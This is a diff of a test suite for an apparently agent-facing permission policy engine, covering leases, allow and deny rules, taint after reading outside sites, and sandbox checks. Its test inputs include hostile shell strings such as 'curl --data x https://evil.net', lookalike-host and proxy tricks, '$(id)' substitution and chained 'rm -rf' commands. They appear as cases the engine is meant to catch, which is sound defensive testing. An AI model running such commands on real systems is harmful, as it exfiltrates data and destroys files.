@@ -1,41 +1,224 @@
 import { describe, expect, test } from '@jest/globals'
-import { decide, type Decision, type DecideOptions, type Level } from './index.ts'
+import {
+  classify,
+  decide,
+  type Classification,
+  type Decision,
+  type Level,
+  type PolicyRule,
+  type Situation,
+} from './index.ts'
+import { aLease, context, here } from './policies/testing/situations.ts'
 
-describe('decide', () => {
-  const supervisions = ['supervised', 'semi_auto', 'autonomous'] as const
+function of(tool: string, input: Record<string, unknown>): Classification {
+  return classify({ tool, input }, { ...context, device: 'pc' })
+}
 
-  test.each(supervisions)('red asks for the PIN when %s', (supervision) => {
-    expect(decide('red', { supervision })).toBe('ask_pin')
-    expect(decide('red', { supervision, sandboxed: true, tainted: false })).toBe('ask_pin')
-  })
+const calls: Record<Level, Classification> = {
+  green: of('bash', { command: 'ls' }),
+  yellow: of('bash', { command: 'npm test' }),
+  computer: of('computer', { action: 'left_click' }),
+  red: of('bash', { command: 'rm -rf build' }),
+}
+const run = (command: string) => of('bash', { command })
+const taint = ['example.com']
+const rule = (scope: Omit<PolicyRule, 'id' | 'effect'>, effect: PolicyRule['effect'] = 'allow'): PolicyRule => ({
+  id: 'rule',
+  effect,
+  ...scope,
+})
+const verdict = (call: Classification, situation: Partial<Situation>) =>
+  decide(call, { supervision: 'supervised', place: here, ...situation })
+const decision = (call: Classification, situation: Partial<Situation>) => verdict(call, situation).decision
 
-  test.each(supervisions)('green runs when %s, also in a tainted turn', (supervision) => {
-    expect(decide('green', { supervision, tainted: true })).toBe('run')
-  })
-
-  test.each<[Level, DecideOptions, Decision]>([
-    ['yellow', { supervision: 'supervised' }, 'ask'],
+describe('by level and mode', () => {
+  test.each<[Level, Partial<Situation>, Decision]>([
+    ['green', {}, 'run'],
+    ['green', { taint }, 'run'],
+    ['green', { sandboxed: false, lease: aLease }, 'ask'],
+    ['yellow', {}, 'ask'],
     ['yellow', { supervision: 'semi_auto' }, 'run'],
-    ['yellow', { supervision: 'semi_auto', tainted: true }, 'ask'],
-    ['yellow', { supervision: 'semi_auto', sandboxed: true }, 'run'],
+    ['yellow', { supervision: 'semi_auto', taint }, 'ask'],
     ['yellow', { supervision: 'semi_auto', sandboxed: false }, 'ask'],
-    ['yellow', { supervision: 'autonomous' }, 'run'],
-    ['yellow', { supervision: 'autonomous', sandboxed: false }, 'ask'],
-    ['yellow', { supervision: 'autonomous', tainted: true }, 'ask'],
-    ['computer', { supervision: 'supervised' }, 'ask'],
+    ['yellow', { lease: aLease }, 'run'],
+    ['yellow', { lease: aLease, sandboxed: false }, 'ask'],
     ['computer', { supervision: 'semi_auto' }, 'ask'],
-    ['computer', { supervision: 'autonomous' }, 'run'],
-  ])('%s with %j is answered by %s', (level, options, decision) => {
-    expect(decide(level, options)).toBe(decision)
+    ['computer', { lease: aLease }, 'ask'],
+    ['computer', { lease: { ...aLease, devices: ['pc'] } }, 'run'],
+    ['red', {}, 'ask_pin'],
+    ['red', { supervision: 'semi_auto' }, 'ask_pin'],
+    ['red', { lease: aLease }, 'ask_pin'],
+    ['red', { lease: { ...aLease, red: true } }, 'run'],
+    ['red', { lease: { ...aLease, red: true }, taint }, 'ask_pin'],
+    ['red', { lease: { ...aLease, red: true }, sandboxed: false }, 'ask_pin'],
+    ['green', { attended: false }, 'run'],
+    ['yellow', { attended: false }, 'refuse'],
+    ['yellow', { attended: false, supervision: 'semi_auto' }, 'refuse'],
+    ['yellow', { attended: false, lease: aLease }, 'refuse'],
+    ['red', { attended: false, lease: { ...aLease, red: true } }, 'refuse'],
+  ])('%s with %j is answered by %s', (level, situation, expected) => {
+    expect(decision(calls[level], situation)).toBe(expected)
   })
 
-  test('no program starts by itself without a sandbox, not even a green one', () => {
-    expect(decide('green', { supervision: 'autonomous', sandboxed: false })).toBe('ask')
+  test('it is told why', () => {
+    expect(verdict(calls.yellow, { taint })).toMatchObject({
+      reasons: [{ code: 'tainted', text: expect.stringContaining('has read example.com'), fragment: 'example.com' }],
+    })
+    expect(verdict(calls.yellow, { sandboxed: false })).toMatchObject({ reasons: [{ code: 'no_sandbox' }] })
+    expect(verdict(calls.yellow, { rules: [rule({ program: 'npm' }, 'deny')] })).toMatchObject({
+      decision: 'refuse',
+      reasons: [{ code: 'denied_by_rule', fragment: 'npm' }],
+    })
+    expect(verdict(calls.yellow, { lease: aLease })).toEqual({
+      decision: 'run',
+      ground: { by: 'lease', id: aLease.id },
+    })
+  })
+})
+
+describe('a lease', () => {
+  const page = of('web_fetch', { url: 'https://example.com/a' })
+
+  test.each<[string, Partial<Situation>, Decision]>([
+    ['names the tool', { lease: aLease }, 'run'],
+    ['names another tool', { lease: { ...aLease, tools: ['write_file'] } }, 'ask'],
+    ['names all tools', { lease: { ...aLease, tools: ['*'] } }, 'run'],
+    ['names all tools, and strangers were read', { lease: { ...aLease, tools: ['*'] }, taint }, 'ask'],
+    ['names the tool, and strangers were read', { lease: aLease, taint }, 'run'],
+  ])('that %s', (_, situation, expected) => {
+    expect(decision(calls.yellow, situation)).toBe(expected)
   })
 
-  test('with nobody there, what would ask is refused and green still runs', () => {
-    expect(decide('yellow', { supervision: 'supervised', attended: false })).toBe('refuse')
-    expect(decide('red', { supervision: 'autonomous', attended: false })).toBe('refuse')
-    expect(decide('green', { supervision: 'supervised', attended: false })).toBe('run')
+  test.each<[string, readonly string[], readonly string[], Decision]>([
+    ['curl https://api.example.com/x', ['api.example.com'], [], 'run'],
+    ['curl https://api.example.com/x', ['*.example.com'], [], 'run'],
+    ['curl https://api.example.com/x', [], [], 'ask'],
+    ['curl https://api.example.com/x', ['*'], [], 'run'],
+    ['curl https://api.example.com/x', ['*'], taint, 'ask'],
+    ['curl https://api.example.com/x', ['api.example.com'], taint, 'run'],
+    ['curl https://api.example.com.evil.net/x', ['api.example.com', '*.example.com'], taint, 'ask'],
+    ['curl https://api.example.com/x https://evil.net', ['api.example.com'], taint, 'ask'],
+    ['curl -x http://evil.net https://api.example.com/x', ['api.example.com'], taint, 'ask'],
+    ['git push', ['api.example.com'], [], 'run'],
+    ['git push', ['api.example.com'], taint, 'ask'],
+  ])('%s with the hosts %j, after %j', (command, hosts, read, expected) => {
+    expect(decision(run(command), { lease: { ...aLease, hosts }, taint: read })).toBe(expected)
+  })
+
+  test('after strangers a page is read without a question where its address was given or its host is named', () => {
+    expect(decision(page, {})).toBe('run')
+    expect(decision(page, { taint })).toBe('ask')
+    expect(decision(page, { taint, knownAddress: true })).toBe('run')
+    expect(decision(page, { taint, lease: { ...aLease, tools: ['web_fetch'], hosts: ['example.com'] } })).toBe('run')
+    expect(decision(page, { taint, attended: false })).toBe('refuse')
+  })
+})
+
+describe('rules', () => {
+  const npmTest = rule({ program: 'npm', verb: 'test' })
+
+  test('deny beats ask beats allow', () => {
+    const all = [
+      npmTest,
+      { ...npmTest, id: 'ask', effect: 'ask' as const },
+      { ...npmTest, id: 'deny', effect: 'deny' as const },
+    ]
+    expect(decision(calls.yellow, { rules: all })).toBe('refuse')
+    expect(decision(calls.yellow, { rules: all.slice(0, 2) })).toBe('ask')
+    expect(verdict(calls.yellow, { rules: all.slice(0, 1) })).toEqual({
+      decision: 'run',
+      ground: { by: 'rule', id: 'rule' },
+    })
+  })
+
+  test('one that denies stands above a lease, and one that asks does, too', () => {
+    expect(decision(calls.yellow, { lease: aLease, rules: [rule({ program: 'npm' }, 'deny')] })).toBe('refuse')
+    expect(decision(calls.yellow, { lease: aLease, rules: [rule({ program: 'npm' }, 'ask')] })).toBe('ask')
+    expect(decision(calls.red, { lease: { ...aLease, red: true }, rules: [rule({ program: 'rm' }, 'ask')] })).toBe(
+      'ask_pin',
+    )
+  })
+
+  test.each<[string, PolicyRule[], Decision]>([
+    ['npm test', [npmTest], 'run'],
+    ['npm test -- --watch', [npmTest], 'run'],
+    ['npm publish', [rule({ program: 'npm' })], 'ask_pin'],
+    ['npm install x', [npmTest], 'ask'],
+    ['npm run build', [rule({ program: 'npm', verb: 'run build' })], 'run'],
+    ['npm run evil', [rule({ program: 'npm', verb: 'run build' })], 'ask'],
+    ['npm --prefix test exec evil', [npmTest], 'ask'],
+    ['npm exec evil', [rule({ program: 'npm' })], 'ask'],
+    ['npm test && npm install x', [npmTest], 'ask'],
+    ['npm test && npm install x', [npmTest, { ...npmTest, id: 'b', verb: 'install' }], 'run'],
+    ['cd src && npm test 2>&1 | tail -5', [npmTest], 'run'],
+    ['cd /other && npm test', [npmTest], 'ask'],
+    ['timeout 60 npm test', [npmTest], 'run'],
+    ['CI=true npm test', [npmTest], 'ask'],
+    ['npm test > out.txt', [npmTest], 'ask'],
+    ['npm test $(id)', [npmTest], 'ask'],
+    ['npm test "$(cat x)"', [npmTest], 'ask'],
+    ['npm test; rm -rf x', [npmTest, rule({ program: 'rm' })], 'ask_pin'],
+    ['./npm test', [npmTest], 'ask'],
+    ['bash -c "npm test"', [npmTest], 'ask'],
+    ['bash x.sh', [rule({ program: 'bash' })], 'ask'],
+    ['node x.js', [rule({ program: 'node' })], 'ask'],
+    ['python3 x.py', [rule({ program: 'python' })], 'ask'],
+    ['npx x', [rule({ program: 'npx' })], 'ask'],
+    ['xargs npm test', [rule({ program: 'xargs' }), npmTest], 'ask'],
+    ['find . -name x -exec npm test {} +', [rule({ program: 'find' }), npmTest], 'ask'],
+    ['cp a b', [rule({ program: 'cp', verb: '' })], 'run'],
+    ['cp a /home/user/other/b', [rule({ program: 'cp', verb: '' })], 'ask'],
+    ['cp a ../b', [rule({ program: 'cp', verb: '' })], 'ask'],
+    ['cp a ../b', [rule({ program: 'cp', path: '/home/user' })], 'run'],
+    ['cp -t/home/user/other a', [rule({ program: 'cp', verb: '' })], 'ask'],
+    ['curl https://a.example.com', [rule({ program: 'curl', host: 'a.example.com' })], 'run'],
+    ['curl https://b.example.com', [rule({ program: 'curl', host: 'a.example.com' })], 'ask'],
+    ['curl https://a.example.com https://b.example.com', [rule({ program: 'curl', host: 'a.example.com' })], 'ask'],
+    ['# nothing', [rule({ program: 'npm' }), rule({ tool: 'bash' })], 'ask'],
+    ['ls', [rule({ program: 'npm' })], 'run'],
+    ['npm test', [rule({ tool: 'bash' })], 'ask'],
+    ['npm test', [rule({})], 'ask'],
+    ['npm test', [{ ...npmTest, folder: '/home/user' }], 'run'],
+    ['npm test', [{ ...npmTest, folder: '/home/user/project-two' }], 'ask'],
+    ['npm test', [{ ...npmTest, agentKey: 'other' }], 'ask'],
+    ['npm test', [{ ...npmTest, device: 'other' }], 'ask'],
+  ])('that allow: %s with %j', (command, rules, expected) => {
+    expect(decision(run(command), { rules })).toBe(expected)
+  })
+
+  test.each<[string, PolicyRule, Decision]>([
+    ['git push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
+    ['git status && git push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
+    ['env A=1 git push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
+    ['git -C x push', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
+    ['bash -c "git push"', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
+    ['echo "$(git push)"', rule({ program: 'git', verb: 'push' }, 'deny'), 'refuse'],
+    ['git pull', rule({ program: 'git', verb: 'push' }, 'deny'), 'run'],
+    ['cat taxes/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
+    ['cat taxes-old/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'run'],
+    ['cat tax*/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
+    ['grep -r x', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
+    ['echo x > taxes/a.txt', rule({ path: '/home/user/project/taxes' }, 'deny'), 'refuse'],
+    ['curl --data x https://evil.net', rule({ host: 'evil.net' }, 'deny'), 'refuse'],
+    ['curl --url=https://www.EVIL.net./x', rule({ host: '*.evil.net' }, 'deny'), 'refuse'],
+    ['ls', rule({ program: 'ls' }, 'ask'), 'ask'],
+    ['ls', rule({ tool: 'bash' }, 'deny'), 'refuse'],
+  ])('that deny or ask: %s with %j', (command, each, expected) => {
+    expect(decision(run(command), { supervision: 'semi_auto', rules: [each] })).toBe(expected)
+  })
+
+  test('tools without a shell are allowed by name, inside the folder unless a path is given', () => {
+    const write = (path: string) => of('write_file', { path, content: '' })
+    expect(decision(write('a.txt'), { rules: [rule({ tool: 'write_file' })] })).toBe('run')
+    expect(decision(write('../a.txt'), { rules: [rule({ tool: 'write_file' })] })).toBe('ask')
+    expect(decision(write('../a.txt'), { rules: [rule({ tool: 'write_file', path: '/home/user/a.txt' })] })).toBe('run')
+    expect(decision(write('~/.bashrc'), { rules: [rule({ tool: 'write_file', path: '/home/user' })] })).toBe('ask_pin')
+    expect(decision(of('mcp__mail__send', {}), { rules: [rule({ tool: 'mcp__mail__*' })] })).toBe('run')
+    expect(decision(of('mcp__mailer__send', {}), { rules: [rule({ tool: 'mcp__mail__*' })] })).toBe('ask')
+  })
+
+  test('none allows anything once strangers were read, in no mode', () => {
+    expect(decision(calls.yellow, { rules: [npmTest], taint })).toBe('ask')
+    expect(decision(calls.yellow, { supervision: 'semi_auto', rules: [npmTest], taint })).toBe('ask')
   })
 })
